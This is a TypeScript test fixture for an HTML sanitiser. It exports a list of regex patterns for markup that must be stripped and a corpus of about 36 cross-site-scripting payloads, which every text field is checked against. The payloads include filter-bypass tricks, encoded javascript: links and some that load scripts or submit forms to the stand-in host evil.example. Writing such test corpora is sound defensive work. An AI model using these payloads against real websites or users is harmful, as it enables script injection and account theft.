// The XSS corpus of the sanitiser's tests and of the test that sends it through every field of every resource.

/** Things that must never survive, whatever wraps them. */
export const FORBIDDEN = [
  /<script/i,
  /\son\w+\s*=/i,
  /javascript:/i,
  /vbscript:/i,
  /data:/i,
  /<svg/i,
  /<iframe/i,
  /<object/i,
  /<embed/i,
  /<style/i,
  /style\s*=/i,
  /expression\s*\(/i,
  /<form/i,
  /<meta/i,
  /<link/i,
  /<base/i,
  /srcdoc/i,
];

export const CORPUS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<p onclick="alert(1)" onmouseover="alert(2)">hi</p>',
  '<body onload=alert(1)>',
  '<svg onload=alert(1)><circle r="1"/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="width: expression(alert(1))">x</div>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name=a></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<base href="javascript:alert(1)//">',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<img """><script>alert(1)</script>">',
  '<p><b>open <i>nested <script>alert(1)</script></b>',
  '<img src=x:alert(1) onerror=eval(src)>',
  '<a href="//evil.example/x">protocol-relative</a>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
];

const longest = Math.max(...CORPUS.map((c) => c.length));

/**
 * The attacks a test sends through every text field. On PostgreSQL (the server-pg jest project)
 * the sanitiser and the validation are the same code as on SQLite; what that run adds is each
 * column storing what it is given, so there every field gets a spread of the corpus (every fifth
 * attack, and the longest) instead of all of it.
 */
export const fieldAttacks = (onPostgres: boolean): readonly string[] => (onPostgres ? CORPUS.filter((c, i) => i % 5 === 0 || c.length === longest) : CORPUS);
